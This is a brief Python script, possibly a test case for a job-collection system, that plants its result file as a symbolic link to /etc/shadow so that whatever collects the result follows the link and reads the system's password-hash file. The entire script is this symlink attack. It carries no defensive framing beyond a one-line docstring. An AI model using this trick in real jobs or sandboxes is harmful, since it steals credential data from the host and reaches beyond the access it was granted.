"""Leaves a symbolic link as its result, for whoever collects it to follow."""
import os

os.symlink("/etc/shadow", "/job/result.json")
print("left", os.readlink("/job/result.json"), "as result.json")
